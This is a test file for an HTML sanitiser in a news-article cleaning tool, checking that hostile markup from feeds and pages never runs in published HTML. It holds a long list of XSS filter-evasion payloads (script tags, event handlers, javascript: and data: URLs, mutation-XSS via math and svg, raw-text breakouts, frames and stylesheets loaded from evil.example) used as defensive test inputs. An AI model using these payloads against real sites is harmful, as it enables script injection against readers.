/** Why: whatever a feed or page carries, no reader's browser may run it: from the hostile input to the published HTML (X1–X4). */
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parse, parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { sanitize } from '../../src/clean/sanitize.ts';
import { cleanFragment, cleanPage } from '../../src/clean-page.ts';
import type { CleanArticle } from '../../src/model/article.ts';

const url = 'https://news.example/2026/harbour.html';

type Node = DefaultTreeAdapterTypes.Node;

function* elements(node: Node): Generator<DefaultTreeAdapterTypes.Element> {
  if ('tagName' in node) yield node;
  if ('childNodes' in node) for (const child of node.childNodes) yield* elements(child);
  if ('content' in node) yield* elements(node.content);
}

/** Elements that run, load or ask something, or that change how the rest is parsed. */
const HARMFUL =
  /^(?:script|style|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|keygen|svg|template|noscript|title|base|meta|link|xmp|plaintext|noembed|noframes|foreignobject|portal|dialog|isindex)$/i;
const ALLOWED_ATTRIBUTES =
  /^(?:href|rel|src|srcset|sizes|alt|title|width|height|loading|lang|dir|cite|datetime|colspan|rowspan|headers|scope|span|start|reversed|type|value|open|poster|controls|preload|abbr|display|[a-z]*(?:variant|accent|stretchy|fence|separator|space|size|thickness|align|lines|spacing|form|symmetric|script.*|style|color|background|over|under|depth|offset|columnspan|encoding|notation|linethickness|alttext))$/;

/** What a browser would build of `html` at the places where readers put it, scripting on and off. */
function complaints(html: string): string[] {
  const around = [
    ['', ''],
    ['<div><p>', '</p></div>'],
    ['<table><tr><td>', '</td></tr></table>'],
  ];
  const trees = [true, false].flatMap((scriptingEnabled) => [
    parse(`<!doctype html><head></head><body>${html}`, { scriptingEnabled }),
    ...around.map(([before, after]) => parseFragment(`${before}${html}${after}`, { scriptingEnabled })),
  ]);
  return trees.flatMap((tree) => [...elements(tree)].flatMap(complain));
}

function complain({ tagName, attrs }: DefaultTreeAdapterTypes.Element): string[] {
  const found = HARMFUL.test(tagName) ? [tagName] : [];
  for (const { name, value } of attrs) {
    if (!ALLOWED_ATTRIBUTES.test(name) || /^on/.test(name)) found.push(`${tagName} ${name}`);
    if (/^(?:href|src|poster|cite)$/.test(name) && !/^(?:https?:\/\/|mailto:)/.test(value))
      found.push(`${name}=${value}`);
    if (name === 'srcset' && /(?:^|,\s)(?!https?:\/\/)/.test(value)) found.push(`${name}=${value}`);
  }
  return found;
}

const SENTENCE =
  'The night ferry between the harbour and the outer islands will sail again in March, the board said on Tuesday.';

/** A page whose article holds `html`. */
function page(html: string): string {
  return `<!doctype html><html><head><title>Ferry</title></head><body><article><h1>Ferry</h1><p>${SENTENCE}</p>${html}<p>${SENTENCE} It is the second one.</p></article></body></html>`;
}

/** Everything that could be published of the three ways in: page, feed content, and the sanitiser itself. */
function published(html: string): string[] {
  return [sanitize(html, url), cleanFragment(html, { url }).html, cleanPage(page(html), { url }).html];
}

const RUN = 'window.ran=1';

/** By the classes of filter evasion: element, handler, address, encoding, raw text, foreign content, parser mutation. */
const PAYLOADS: readonly (readonly [string, string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script with a foreign source', '<SCRIPT SRC=//evil.example/r.js></SCRIPT>'],
  ['script with a null inside its name', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
  ['script cut in two by a comment', `<scr<!-- -->ipt>${RUN}</script>`],
  ['script in an attribute that is never closed', `<p title="<script>${RUN}</script>`],
  ['handler without quotes', `<img src=x onerror=${RUN}>`],
  ['handler behind a slash', `<svg/onload=${RUN}>`],
  ['handler behind a form feed', `<img\u000csrc=x\u000conerror=${RUN}>`],
  ['handler with a name of its own', `<xss onafterscriptexecute=${RUN} onbeforetoggle=${RUN} popover>x</xss>`],
  ['handler on an element that stays', `<details open ontoggle=${RUN}><summary>x</summary></details>`],
  ['handler on a player', `<video src=/v.mp4 onloadstart=${RUN}><source onerror=${RUN}></video>`],
  ['handler on math', `<math onclick=${RUN}><mi onmouseover=${RUN}>x</mi></math>`],
  ['address of script', `<a href="javascript:${RUN}">x</a>`],
  ['address with a tab and a newline', `<a href="java\tscr\nipt:${RUN}">x</a>`],
  ['address in entities', `<a href="&#106;avascript&colon;${RUN}">x</a>`],
  ['address behind controls', `<a href="\u0001\u0002 javascript:${RUN}">x</a>`],
  ['address in math', `<math href="javascript:${RUN}"><mtext>x</mtext></math>`],
  ['address in xlink', `<math xlink:href="javascript:${RUN}"><mi>x</mi></math>`],
  ['address of data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['picture of data', '<img src="data:image/svg+xml,<svg onload=1>">'],
  ['candidate of script', `<img srcset="javascript:${RUN} 1x, /ok.png 2x">`],
  ['lazy address of script', `<img data-src="javascript:${RUN}" data-srcset="vbscript:x 1x">`],
  ['base that turns relative links', `<base href="javascript:/a/"><a href="x">x</a>`],
  ['refresh', `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`],
  ['form action', `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`],
  ['input that gets the focus', `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`],
  ['style', `<style>@import '//evil.example/s.css';</style><p style="background:url(javascript:${RUN})">x</p>`],
  ['style in a link', '<link rel=stylesheet href=//evil.example/s.css>'],
  [
    'object, embed, applet',
    `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code=x></applet>`,
  ],
  ['raw text: noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['raw text: xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  ['raw text: textarea', `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`],
  ['raw text: title', `<title><p title="</title><img src=x onerror=${RUN}>"></title>`],
  ['raw text: style', `<style><p title="</style><img src=x onerror=${RUN}>"></style>`],
  ['raw text: noembed', `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`],
  ['raw text: plaintext', `<plaintext><img src=x onerror=${RUN}>`],
  ['template', `<template><img src=x onerror=${RUN}></template>`],
  ['shadow root', `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`],
  ['comment closed by --!>', `<!-- --!><img src=x onerror=${RUN}> -->`],
  ['comment closed by >', `<!--><img src=x onerror=${RUN}> -->`],
  ['bogus comment', `<!x><?x><img src=x onerror=${RUN}></ x>`],
  ['CDATA in HTML', `<![CDATA[<img src=x onerror=${RUN}>]]>`],
  ['CDATA in math', `<math><![CDATA[</math><img src=x onerror=${RUN}>]]></math>`],
  ['svg animation', `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=1>#x"/></svg>'],
  [
    'svg integration point',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  ],
  ['mutation: style in svg', `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`],
  ['mutation: mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`],
  [
    'mutation: annotation',
    `<math><annotation-xml encoding="text/html"><p><style><img title="</style><img src=x onerror=${RUN}>"></annotation-xml></math>`,
  ],
  [
    'mutation: table',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  ],
  ['mutation: select', `<select><style></select><img src=x onerror=${RUN}></style>`],
  ['mutation: nested links and tables', `<a href=/1><table><a href=/2><td><a href="javascript:${RUN}">x`],
  [
    'mutation: deep formatting',
    `${'<b><i><u>'.repeat(40)}<table><p><a href=/1>${'</b></i></u>'.repeat(40)}<img src=x onerror=${RUN}>`,
  ],
  [
    'members of objects',
    `<constructor onclick=${RUN}><__proto__ onclick=${RUN}><p __proto__=x constructor=y hasOwnProperty=z>x</p>`,
  ],
  ['escaped once', `&lt;img src=x onerror=${RUN}&gt;`],
  ['escaped twice', `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`],
];

test('the judge of these tests finds fault with what it is to find', () => {
  // Not every raw payload harms a parser that keeps to the standard; most do, or the judge would be blind.
  const found = PAYLOADS.filter(([, payload]) => complaints(payload).length > 0);
  expect(found.length).toBeGreaterThan(PAYLOADS.length * 0.7);
});

describe('X1 nothing runs', () => {
  const carriers: readonly (readonly [string, (html: string) => string])[] = [
    ['alone', (html) => html],
    ['in a paragraph', (html) => `<p>before ${html} after</p>`],
    ['in a table cell', (html) => `<table><tr><td>${html}</td></tr></table>`],
    ['in a list', (html) => `<ul><li>${html}</li></ul>`],
    ['in a caption', (html) => `<figure><img src="/a.png"><figcaption>${html}</figcaption></figure>`],
    ['in mathematics', (html) => `<math><mtext>${html}</mtext></math>`],
    ['in a heading', (html) => `<h2>${html}</h2>`],
    ['in an attribute', (html) => `<img src="/a.png" alt="${html.replaceAll('"', '&quot;')}">`],
    ['unclosed', (html) => `<div><b>${html}`],
  ];
  test.each(PAYLOADS)('X1 %s', (_name, payload) => {
    for (const [name, carry] of carriers) {
      for (const html of published(carry(payload))) {
        expect(complaints(html), name).toEqual([]);
        expect(sanitize(html, url), name).toBe(html);
      }
    }
  });

  test('X1 any two of them, one inside the other, and cut off anywhere', () => {
    const one = fc.constantFrom(...PAYLOADS.map(([, payload]) => payload));
    const text = fc.tuple(one, one, fc.nat(), fc.nat()).map(([a, b, at, end]) => {
      const mixed = a.slice(0, at % (a.length + 1)) + b + a.slice(at % (a.length + 1));
      return mixed.slice(0, 1 + (end % mixed.length));
    });
    fc.assert(
      fc.property(text, (html) => {
        const once = sanitize(html, url);
        expect(complaints(once)).toEqual([]);
        expect(sanitize(once)).toBe(once);
      }),
      { numRuns: Number(process.env.WINNOW_FUZZ_RUNS ?? 800) },
    );
  });

  test('X1 what was escaped stays text', () => {
    const html = sanitize(`<p>&lt;script&gt;${RUN}&lt;/script&gt;</p>`);
    const [first] = [...elements(parseFragment(html))];
    expect(first?.childNodes).toMatchObject([{ nodeName: '#text', value: `<script>${RUN}</script>` }]);
  });
});

/** Fields of the record that are addresses. */
const addressesOf = ({ image, canonicalUrl, nextPages }: CleanArticle): string[] =>
  [image?.url, canonicalUrl, ...nextPages].filter((one) => one !== undefined);

function pageSaying(said: string, address: string): CleanArticle {
  const escaped = said.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  const data = JSON.stringify({
    '@type': 'NewsArticle',
    headline: said,
    author: { '@type': 'Person', name: said, url: address },
    image: address,
    mainEntityOfPage: address,
    keywords: [said],
  }).replaceAll('<', '\\u003c');
  const quoted = address.replaceAll('"', '&quot;');
  const html = `<!doctype html><html><head><title>${escaped}</title><meta property="og:title" content="${escaped}">
<meta name="author" content="${escaped}"><meta property="og:site_name" content="${escaped}"><meta name="description" content="${escaped}">
<meta property="og:image" content="${quoted}"><meta property="og:url" content="${quoted}"><link rel="canonical" href="${quoted}">
<link rel="next" href="${quoted}"><script type="application/ld+json">${data}</script></head>
<body><article><h1>${escaped}</h1><p>${SENTENCE}</p><p>${SENTENCE} Twice.</p></article></body></html>`;
  return cleanPage(html, { url });
}

describe('X2 names and titles are text', () => {
  test.each([
    ['markup', '<b>Ferry</b> <img src=x onerror=1> sails again'],
    ['escaped markup', '&lt;script&gt;Ferry&lt;/script&gt; sails again'],
    ['the end of a CDATA section', 'Ferry ]]> sails <![CDATA[ again'],
    ['the end of a script', 'Ferry </script><script>1</script> sails again'],
  ])('X2 %s', (_name, said) => {
    const article = pageSaying(said, 'https://news.example/ok');
    expect(complaints(article.html)).toEqual([]);
    expect(article.title).toContain('sails');
  });

  test.each(['\u0000', '\u0008', '\ufffe', '\ud800', '\u001b[31m'])('X2 no %j in the HTML', (bad) => {
    const { html } = pageSaying(`Ferry ${bad} sails again`, 'https://news.example/ok');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
    expect(html).not.toMatch(/[\u0000-\u0008\u000b\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])/);
  });
});

describe('X3 addresses of a page are of the web', () => {
  test('X3 a good one is read', () => {
    const good = 'https://news.example/ok';
    expect(addressesOf(pageSaying('The ferry sails again', good))).toContain(good);
  });

  test.each([
    `javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    'vbscript:x',
    'data:text/html,<script>1</script>',
    'data:image/svg+xml,<svg onload=1>',
    'file:///etc/passwd',
    'blob:https://news.example/1',
    'intent://x#Intent;end',
    'feed:javascript:x',
  ])('X3 %j is no image, no canonical address, no next page', (address) => {
    const article = pageSaying('The ferry sails again', address);
    for (const one of addressesOf(article)) expect(new URL(one).protocol).toMatch(/^https?:$/);
    expect(complaints(article.html)).toEqual([]);
  });
});

describe('X4 no frame is published', () => {
  test.each([
    ['of a stranger', '<iframe src="https://evil.example/"></iframe>'],
    ['of script', `<iframe src="javascript:${RUN}"></iframe>`],
    ['with its document in it', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
    [
      'of a player whose name is only part of the host',
      '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    ],
    ['of a player with a user name', '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'],
    ['of a player, lazily', `<iframe data-src="javascript:${RUN}" src="about:blank"></iframe>`],
    ['as object', '<object data="https://evil.example/"><param name=src value=x></object>'],
    ['as a set', '<frameset onload=1><frame src="https://evil.example/"></frameset>'],
    [
      'as a fenced one',
      '<fencedframe src="https://evil.example/"></fencedframe><portal src="https://evil.example/"></portal>',
    ],
  ])('X4 %s', (_name, frame) => {
    for (const html of published(`<p>${SENTENCE}</p>${frame}`)) {
      expect(html).not.toMatch(/<(?:iframe|frame|frameset|object|embed|portal|fencedframe)\b|srcdoc/i);
      expect(complaints(html)).toEqual([]);
    }
  });
});
